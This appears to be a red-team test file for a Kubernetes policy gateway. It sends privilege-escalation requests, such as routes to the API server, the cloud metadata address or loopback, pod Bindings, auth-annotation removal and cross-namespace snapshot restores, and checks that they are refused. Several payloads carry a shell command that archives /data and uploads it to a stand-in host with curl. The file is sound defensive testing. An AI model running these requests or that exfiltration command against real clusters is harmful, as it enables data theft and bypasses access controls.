import { describe, expect, it } from 'vitest';
import { builtServerForFile, freshSubjects, kubectlSender, reason, REFUSED, rules, checkEscalationRows, type EscalationRow as Row, type EscalationState as State, type KubectlRequest as Req } from '../support/built-server.js';

/**
 * What redteam33 did not read (session 34), sent black-box to the built server with the example
 * policy, in the four token states of attack-mesh-bypass (built-server.ts ESCALATION_STATES): a
 * route to the API server named by its address or through another ingress API, a pod placed by a
 * hand-written Binding, a CronWorkflow rescheduled, a claim restoring another namespace's snapshot,
 * and the forward auth taken off an ingress-nginx Ingress. About 60 requests were tried; the rows
 * kept are those that found something and those that add coverage the earlier files do not send.
 * The stolen and remote tokens were refused on every one before (a new network asks a sign-in
 * made there); the everyday sign-in is what each found row was allowed.
 */

const server = builtServerForFile('routes-bindings');
const send = kubectlSender(server, freshSubjects(() => server().issuer, 'routes-bindings'));
const JSON_CT = { 'content-type': 'application/json' };
const MERGE = { 'content-type': 'application/merge-patch+json' };
const JSON_PATCH = { 'content-type': 'application/json-patch+json' };
const APPLY = { 'content-type': 'application/apply-patch+yaml' };
const post = (path: string, body: unknown): Req => ({ method: 'POST', path, body, headers: JSON_CT });
const merge = (path: string, body: unknown): Req => ({ method: 'PATCH', path, body, headers: MERGE });

/** The API server's ClusterIP with kubeadm's service range, as the example's guardrails.api_server_addresses names it. */
const API_IP = '10.96.0.1';
const METADATA = '169.254.169.254';
const IMAGE = `registry.example/export:2.4@sha256:${'b'.repeat(64)}`;
const ISTIO = '/apis/networking.istio.io/v1';
const PUBLIC_GW = { name: 'public-gw', namespace: 'istio-ingress' };

const virtualService = (host: string) =>
  post(`${ISTIO}/namespaces/dev/virtualservices`, { apiVersion: 'networking.istio.io/v1', kind: 'VirtualService', metadata: { name: 'api' }, spec: { hosts: ['api.dev.example.com'], gateways: ['istio-system/public'], http: [{ route: [{ destination: { host, port: { number: 443 } } }] }] } });
const serviceEntry = (address: string, port = 443) =>
  post(`${ISTIO}/namespaces/dev/serviceentries`, { apiVersion: 'networking.istio.io/v1', kind: 'ServiceEntry', metadata: { name: 'api' }, spec: { hosts: ['api.dev.internal'], location: 'MESH_INTERNAL', resolution: 'STATIC', ports: [{ number: port, name: 'https', protocol: 'HTTPS' }], endpoints: [{ address }] } });
const httpRoute = (backendRef: object) =>
  post('/apis/gateway.networking.k8s.io/v1/namespaces/dev/httproutes', { apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name: 'api' }, spec: { parentRefs: [PUBLIC_GW], hostnames: ['api.dev.example.com'], rules: [{ backendRefs: [backendRef] }] } });
const gatewayRoute = (kind: 'TLSRoute' | 'TCPRoute', backendRef: object) =>
  post(`/apis/gateway.networking.k8s.io/v1alpha2/namespaces/dev/${kind.toLowerCase()}s`, { apiVersion: 'gateway.networking.k8s.io/v1alpha2', kind, metadata: { name: 'api' }, spec: { parentRefs: [{ ...PUBLIC_GW, sectionName: 'passthrough' }], ...(kind === 'TLSRoute' && { hostnames: ['api.dev.example.com'] }), rules: [{ backendRefs: [backendRef] }] } });
const endpoints = (ip: string, port: number) => post('/api/v1/namespaces/dev/endpoints', { apiVersion: 'v1', kind: 'Endpoints', metadata: { name: 'api' }, subsets: [{ addresses: [{ ip }], ports: [{ name: 'https', port }] }] });
const endpointSlice = (ip: string, port: number) =>
  post('/apis/discovery.k8s.io/v1/namespaces/dev/endpointslices', { apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: { name: 'api-1', labels: { 'kubernetes.io/service-name': 'api' } }, addressType: 'IPv4', ports: [{ name: 'https', port }], endpoints: [{ addresses: [ip] }] });
const workloadEntry = (address: string) => post(`${ISTIO}/namespaces/dev/workloadentries`, { apiVersion: 'networking.istio.io/v1', kind: 'WorkloadEntry', metadata: { name: 'web-vm' }, spec: { address, labels: { app: 'web' }, ports: { http: 8080 } } });
const envoyBackend = (spec: object) => post('/apis/gateway.envoyproxy.io/v1alpha1/namespaces/dev/backends', { apiVersion: 'gateway.envoyproxy.io/v1alpha1', kind: 'Backend', metadata: { name: 'api' }, spec });
const externalName = (name: string) => post('/api/v1/namespaces/dev/services', { apiVersion: 'v1', kind: 'Service', metadata: { name: 'api' }, spec: { type: 'ExternalName', externalName: name } });
const ingressRoute = (ns: string, services: object[], tcp = false) =>
  post(`/apis/traefik.io/v1alpha1/namespaces/${ns}/${tcp ? 'ingressroutetcps' : 'ingressroutes'}`, {
    apiVersion: 'traefik.io/v1alpha1',
    kind: tcp ? 'IngressRouteTCP' : 'IngressRoute',
    metadata: { name: 'api' },
    spec: { entryPoints: ['websecure'], routes: [{ match: tcp ? 'HostSNI(`api.dev.example.com`)' : 'Host(`api.dev.example.com`)', ...(!tcp && { kind: 'Rule' }), services }], ...(tcp && { tls: { passthrough: true } }) },
  });
const httpProxy = (ns: string, spec: object) => post(`/apis/projectcontour.io/v1/namespaces/${ns}/httpproxies`, { apiVersion: 'projectcontour.io/v1', kind: 'HTTPProxy', metadata: { name: 'api' }, spec: { virtualhost: { fqdn: 'api.dev.example.com' }, ...spec } });
const route = (ns: string, service: string) => post(`/apis/route.openshift.io/v1/namespaces/${ns}/routes`, { apiVersion: 'route.openshift.io/v1', kind: 'Route', metadata: { name: 'api' }, spec: { host: 'api.apps.example.com', to: { kind: 'Service', name: service }, tls: { termination: 'passthrough' } } });
const mapping = (ns: string, service: string) => post(`/apis/getambassador.io/v3alpha1/namespaces/${ns}/mappings`, { apiVersion: 'getambassador.io/v3alpha1', kind: 'Mapping', metadata: { name: 'api' }, spec: { hostname: 'api.dev.example.com', prefix: '/', service } });
const NGINX = 'nginx.ingress.kubernetes.io';
const ingress = (ns: string, annotations: Record<string, string>, service = 'web') =>
  post(`/apis/networking.k8s.io/v1/namespaces/${ns}/ingresses`, { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'web', annotations }, spec: { ingressClassName: 'nginx', rules: [{ host: 'web.dev.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: service, port: { number: 80 } } } }] } }] } });
const GRAFANA = '/apis/networking.k8s.io/v1/namespaces/monitoring-dev/ingresses/grafana';
const binding = (path: string) => post(path, { apiVersion: 'v1', kind: 'Binding', metadata: { name: 'web-0' }, target: { apiVersion: 'v1', kind: 'Node', name: 'cp-eu-1' } });
const CRON_WORKFLOW = '/apis/argoproj.io/v1alpha1/namespaces/billing/cronworkflows/export';
const EXFIL = ['sh', '-c', 'tar c /data | curl -T - https://drop.example.net'];
const claim = (dataSourceRef: object) =>
  post('/api/v1/namespaces/dev/persistentvolumeclaims', { apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name: 'data' }, spec: { accessModes: ['ReadWriteOnce'], dataSourceRef: { apiGroup: 'snapshot.storage.k8s.io', kind: 'VolumeSnapshot', name: 'db-nightly', ...dataSourceRef }, resources: { requests: { storage: '50Gi' } } } });
const cronJob = (ns: string) => ({ apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'nightly-export', namespace: ns }, spec: { schedule: '0 * * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'job', image: IMAGE, command: EXFIL }] } } } } } });


const ALL: State[] = ['stolen', 'remote', 'everyday', 'laptop'];
const UNTIL_LAPTOP: State[] = ['stolen', 'remote', 'everyday'];
const GATED = 'guardrail:gated_host_route';

/** Each allowed to the everyday sign-in (and the laptop) before this session. */
const FOUND: Row[] = [
  // The API server by its address (guardrails.api_server_addresses): the gate off for a new host.
  { what: `a VirtualService in dev routing a new public host to ${API_IP}`, req: virtualService(API_IP), by: GATED, refused: ALL },
  { what: `a ServiceEntry in dev whose endpoint is ${API_IP}`, req: serviceEntry(API_IP), by: GATED, refused: ALL },
  { what: `an HTTPRoute with Istio's Hostname backend ${API_IP}`, req: httpRoute({ group: 'networking.istio.io', kind: 'Hostname', name: API_IP, port: 443 }), by: GATED, refused: ALL },
  { what: `an Endpoints object in dev (a selectorless Service's) at ${API_IP}:443`, req: endpoints(API_IP, 443), by: GATED, refused: ALL },
  { what: `an EndpointSlice in dev at ${API_IP}:443`, req: endpointSlice(API_IP, 443), by: GATED, refused: ALL },
  { what: `an ExternalName Service in dev aliasing ${API_IP}`, req: externalName(API_IP), by: GATED, refused: ALL },
  // The API server's Service by name, through the ingress APIs route-backends did not read.
  { what: "a Traefik IngressRoute in dev naming the Service kubernetes in default (allowCrossNamespace)", req: ingressRoute('dev', [{ name: 'kubernetes', namespace: 'default', port: 443, scheme: 'https' }]), by: GATED, refused: ALL },
  { what: 'a Traefik IngressRoute in default naming kubernetes', req: ingressRoute('default', [{ name: 'kubernetes', port: 443 }]), by: GATED, refused: ALL },
  { what: 'a Traefik IngressRouteTCP passing TLS through to kubernetes in default', req: ingressRoute('dev', [{ name: 'kubernetes', namespace: 'default', port: 443 }], true), by: GATED, refused: ALL },
  { what: 'a Contour HTTPProxy in default routing to kubernetes', req: httpProxy('default', { routes: [{ services: [{ name: 'kubernetes', port: 443, protocol: 'tls' }] }] }), by: GATED, refused: ALL },
  { what: "a Contour HTTPProxy's TCP proxy (TLS passthrough) to kubernetes", req: httpProxy('default', { virtualhost: { fqdn: 'api.dev.example.com', tls: { passthrough: true } }, tcpproxy: { services: [{ name: 'kubernetes', port: 443 }] } }), by: GATED, refused: ALL },
  { what: 'an OpenShift Route in default, passthrough, to kubernetes', req: route('default', 'kubernetes'), by: GATED, refused: ALL },
  { what: 'an Emissary Mapping in dev whose service is https://kubernetes.default.svc:443', req: mapping('dev', 'https://kubernetes.default.svc:443'), by: GATED, refused: ALL },
  { what: 'an Emissary Mapping in default whose service is kubernetes:443', req: mapping('default', 'kubernetes:443'), by: GATED, refused: ALL },
  { what: 'an ingress-nginx mirror-target copying every request (its Authorization too) to the API server', req: ingress('dev', { [`${NGINX}/mirror-target`]: 'https://kubernetes.default.svc$request_uri' }), by: GATED, refused: ALL },
  { what: 'an ingress-nginx default-backend in default naming kubernetes', req: ingress('default', { [`${NGINX}/default-backend`]: 'kubernetes' }), by: GATED, refused: ALL },
  // The forward auth taken off an Ingress (stepgate's, where ingress-nginx asks it: docs/stepup.md).
  { what: "a merge patch removing a dashboard Ingress's auth-url", req: merge(GRAFANA, { metadata: { annotations: { [`${NGINX}/auth-url`]: null, [`${NGINX}/auth-signin`]: null } } }), by: GATED, refused: ALL },
  { what: 'a JSON patch removing it', req: { method: 'PATCH', path: GRAFANA, body: [{ op: 'remove', path: '/metadata/annotations/nginx.ingress.kubernetes.io~1auth-url' }], headers: JSON_PATCH }, by: GATED, refused: ALL },
  { what: 'an Ingress opting out of the controller-wide auth (enable-global-auth: "false")', req: ingress('dev', { [`${NGINX}/enable-global-auth`]: 'false' }), by: GATED, refused: ALL },
  // A Binding written by hand is a pod's nodeName: past the scheduler and the control plane's taint.
  // Since session 43 the example asks what cluster-control asks for any Binding (pod-bindings: the
  // scheduler's power, never routine by hand), so the fresh two-factor laptop is refused too.
  { what: 'a Binding (pods/binding) placing a pending pod of dev on a control-plane node', req: binding('/api/v1/namespaces/dev/pods/web-0/binding'), by: 'pod-bindings', refused: ALL },
  { what: 'the same through the older bindings resource', req: binding('/api/v1/namespaces/dev/bindings'), by: 'pod-bindings', refused: ALL },
  // A CronWorkflow is a CronJob for scheduled_job_changed.
  { what: "a CronWorkflow in billing rescheduled every five minutes", req: merge(CRON_WORKFLOW, { spec: { schedules: ['*/5 * * * *'] } }), by: 'guardrail:scheduled_job_changed', refused: UNTIL_LAPTOP },
  { what: "a CronWorkflow's template given another command", req: merge(CRON_WORKFLOW, { spec: { workflowSpec: { templates: [{ name: 'main', container: { image: IMAGE, command: EXFIL } }] } } }), by: 'guardrail:scheduled_job_changed', refused: UNTIL_LAPTOP },
  { what: "a CronWorkflow's service account switched", req: merge(CRON_WORKFLOW, { spec: { workflowSpec: { serviceAccountName: 'billing-admin' } } }), by: 'guardrail:scheduled_job_changed', refused: UNTIL_LAPTOP },
  // redteam33's left-open row: the copy across namespaces is in the request.
  { what: "a PersistentVolumeClaim in dev restoring prod-payments' VolumeSnapshot (dataSourceRef.namespace)", req: claim({ namespace: 'prod-payments' }), by: 'guardrail:volume_source_other_namespace', refused: UNTIL_LAPTOP },
];

/** Right before this session, in shapes the earlier files do not send. */
const ALREADY: Row[] = [
  { what: 'a TCPRoute in dev to kubernetes in default', req: gatewayRoute('TCPRoute', { name: 'kubernetes', namespace: 'default', port: 443 }), by: GATED, refused: ALL },
  { what: 'a TLSRoute (passthrough) in dev to kubernetes in default', req: gatewayRoute('TLSRoute', { name: 'kubernetes', namespace: 'default', port: 443 }), by: GATED, refused: ALL },
  { what: "a Node's status addresses rewritten (the API server's kubelet connections go there)", req: merge('/api/v1/nodes/worker-1/status', { status: { addresses: [{ type: 'InternalIP', address: '10.31.7.9' }] } }), by: 'node-changes', refused: UNTIL_LAPTOP },
  {
    what: "a kubelet exec over WebSocket through nodes/proxy (GET, the verb a get-only grant has)",
    req: { method: 'GET', path: '/api/v1/nodes/worker-1/proxy/exec/prod-eu/web-0/web?command=sh&input=1&output=1&tty=1', headers: { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'v5.channel.k8s.io' } },
    by: 'no-node-proxy',
    refused: ALL,
  },
];

/**
 * Left open in session 34 as "no host stepgate checks" (allowed to the everyday sign-in until
 * session 43): a route at the cloud's metadata address hands whoever calls the route the gateway
 * node's cloud credentials, and one at loopback the gateway's own admin port. The literal address
 * is certain from the request, and no routine route names it; a name resolving there later still
 * is not seen (docs/guardrails.md). Endpoints and EndpointSlices at either are refused by kube's
 * own validation, so they are not rows here.
 */
const SESSION43_FOUND: Row[] = [
  { what: `a VirtualService in dev routing a public host to the metadata address ${METADATA}`, req: virtualService(METADATA), by: 'guardrail:metadata_route', refused: ALL },
  { what: `a ServiceEntry in dev whose endpoint is ${METADATA}`, req: serviceEntry(METADATA, 80), by: 'guardrail:metadata_route', refused: ALL },
  // The proxy's own loopback: the gateway's Envoy admin port (Contour's CVE-2021-32783 class).
  { what: "a VirtualService in dev routing a public host to 127.0.0.1 (the gateway's own loopback)", req: virtualService('127.0.0.1'), by: 'guardrail:loopback_route', refused: ALL },
  { what: 'an ExternalName Service in dev aliasing localhost', req: externalName('localhost'), by: 'guardrail:loopback_route', refused: ALL },
  // Kinds that claim no host but say where a route's traffic goes; neither was read before.
  { what: `an Istio WorkloadEntry in dev at ${API_IP} labelled as the team's Service (the mesh adds it to that Service's endpoints)`, req: workloadEntry(API_IP), by: GATED, refused: ALL },
  { what: `a WorkloadEntry in dev at ${METADATA}`, req: workloadEntry(METADATA), by: 'guardrail:metadata_route', refused: ALL },
  { what: `an Envoy Gateway Backend in dev at ${API_IP}:443`, req: envoyBackend({ endpoints: [{ ip: { address: API_IP, port: 443 } }] }), by: GATED, refused: ALL },
  { what: 'an Envoy Gateway Backend of type DynamicResolver (each Host header its destination)', req: envoyBackend({ type: 'DynamicResolver' }), by: GATED, refused: ALL },
];

describe('found: refused now in the states listed, allowed to the everyday sign-in before', () => checkEscalationRows(send, FOUND));
describe("found in session 43: a route to the cloud's metadata service or the proxy's loopback, and kinds that name a route's endpoints", () => checkEscalationRows(send, SESSION43_FOUND));
describe('already right, in shapes the earlier files do not send', () => checkEscalationRows(send, ALREADY));

describe('controls: the everyday work beside them stays allowed to the everyday sign-in', () => {
  it.each<[string, Req]>([
    ['a ServiceEntry for an outside database by address', serviceEntry('10.50.1.20', 5432)],
    ['an EndpointSlice for an outside database (a selectorless Service)', endpointSlice('10.50.1.20', 5432)],
    ["a Traefik IngressRoute to the team's own Service", ingressRoute('dev', [{ name: 'web', port: 80 }])],
    ["a Contour HTTPProxy to the team's own Service", httpProxy('dev', { routes: [{ services: [{ name: 'web', port: 80 }] }] })],
    ["an OpenShift Route to the team's own Service", route('dev', 'web')],
    ["an Emissary Mapping to the team's own Service", mapping('dev', 'web:80')],
    ['an Ingress with upstream-vhost (the Host header only) and its own auth-url', ingress('dev', { [`${NGINX}/upstream-vhost`]: 'web.internal', [`${NGINX}/auth-url`]: 'http://oauth2-proxy.dev.svc.cluster.local/oauth2/auth' })],
    ["a merge patch of a dashboard Ingress's other annotations", merge(GRAFANA, { metadata: { annotations: { [`${NGINX}/proxy-body-size`]: '16m' } } })],
    ['a claim restoring a snapshot of its own namespace', claim({})],
    ['a CronWorkflow suspended', merge(CRON_WORKFLOW, { spec: { suspend: true } })],
    ["a CronWorkflow's image bumped by a JSON patch (a deploy)", { method: 'PATCH', path: CRON_WORKFLOW, body: [{ op: 'replace', path: '/spec/workflowSpec/templates/0/container/image', value: IMAGE }], headers: JSON_PATCH }],
    ["an Istio WorkloadEntry for the team's VM", workloadEntry('10.20.3.4')],
    ["an Envoy Gateway Backend for a partner's API", envoyBackend({ endpoints: [{ fqdn: { hostname: 'api.partner.example', port: 443 } }] })],
    ['a TokenReview (whether a token is valid, what kubectl auth whoami-style tools ask)', post('/apis/authentication.k8s.io/v1/tokenreviews', { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenReview', spec: { token: 'eyJhbGciOiJSUzI1NiJ9.e30.x' } })],
    ['a pod of kube-system evicted (a node drain; system-writes leaves evictions out)', post('/api/v1/namespaces/kube-system/pods/coredns-5d78c9869d-abcde/eviction', { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'coredns-5d78c9869d-abcde', namespace: 'kube-system' } })],
  ])('%s', async (_what, req) => {
    const res = await send(req, 'everyday');
    expect(reason(res), rules(res)).toBe('allowed');
  });
});

/**
 * Left open (docs/guardrails.md says why), each allowed to the everyday sign-in: what a PUT or
 * server-side apply of a CronJob changes, which CronWorkflow runs a WorkflowTemplate, or whether an Ingress's auth-url was
 * stepgate's before a patch set another, is in the stored objects, not the request.
 * `it.fails`: a fix makes a row pass, which fails here until its marker goes.
 */
const LEFT_OPEN: [string, Req][] = [
  ['a CronJob in billing replaced (PUT) with an exfiltrating command', { method: 'PUT', path: '/apis/batch/v1/namespaces/billing/cronjobs/nightly-export', body: cronJob('billing'), headers: JSON_CT }],
  ['the same by server-side apply', { method: 'PATCH', path: '/apis/batch/v1/namespaces/billing/cronjobs/nightly-export?fieldManager=kubectl&force=true', body: cronJob('billing'), headers: APPLY }],
  ["a merge patch repointing a dashboard Ingress's auth-url at a service that answers 200", merge(GRAFANA, { metadata: { annotations: { [`${NGINX}/auth-url`]: 'http://always-ok.dev.svc.cluster.local/' } } })],
  ["a WorkflowTemplate in billing (a CronWorkflow's) given another command", merge('/apis/argoproj.io/v1alpha1/namespaces/billing/workflowtemplates/export', { spec: { templates: [{ name: 'main', container: { image: IMAGE, command: EXFIL } }] } })],
];

describe('left open', () => {
  for (const [what, req] of LEFT_OPEN) {
    it.fails(`${what} is refused to the everyday sign-in`, async () => {
      const res = await send(req, 'everyday');
      expect(REFUSED, rules(res)).toContain(reason(res));
    });
  }
});
